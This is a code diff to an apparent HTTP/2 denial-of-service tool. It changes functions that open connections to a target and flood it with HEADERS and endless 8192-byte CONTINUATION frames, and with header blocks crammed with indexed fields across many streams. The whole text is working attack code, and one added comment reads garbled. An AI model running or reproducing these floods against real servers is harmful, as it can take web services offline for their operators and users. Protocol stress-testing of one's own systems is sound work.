@@ -74,7 +74,7 @@ def repeat(target, identity, seconds, attack, settings=None):
     cut, sent, end = 0, 0, time.monotonic() + seconds
     while time.monotonic() < end:
         try:
-            with Connection(target, identity, settings) as connection:
+            with Connection(target, identity, settings).settle() as connection:
                 for piece in attack(connection):
                     connection.send(piece)
                     sent += len(piece)
@@ -177,12 +177,14 @@ def endless_integer(target, seconds, size):
             while len(connections) < 2 and time.monotonic() < end:
                 with contextlib.suppress(OSError):
                     connection = stack.enter_context(Connection(target, SOFTWARE))
-                    connection.send(frame(HEADERS, 0, 1, http2.header_block(http2.SUBMIT) +
+                    connection.call(http2.HEALTH)  # no stranger any more: has a larger part
+                    connection.quiet = True
+                    connection.send(frame(HEADERS, 0, 3, http2.header_block(http2.SUBMIT) +
                                           b"\x00\xff"))
                     connections.append(connection)
             for connection in list(connections):
                 try:
-                    connection.send(frame(CONTINUATION, 0, 1, b"\x80" * 8192))
+                    connection.send(frame(CONTINUATION, 0, 3, b"\x80" * 8192))
                     connection.read(0)
                     sent += 8192
                 except OSError:
@@ -198,8 +200,8 @@ def table_of_headers(target, seconds, size):
         for stream in range(1, 1 << 30, 2):
             fields = b"".join(b"\x40" + b"\x03k%02d" % (i % 100) + b"\x04" + b"%04d" % (
                 (stream + i) % 10000) for i in range(100))
-            yield (b"\x3f\x00" and frame(HEADERS, END_HEADERS | END_STREAM, stream,
-                                         http2.header_block(http2.SUBMIT) + fields))
+            yield frame(HEADERS, END_HEADERS | END_STREAM, stream,
+                        http2.header_block(http2.SUBMIT) + fields)
     return repeat(target, SOFTWARE, seconds, attack)
 
 
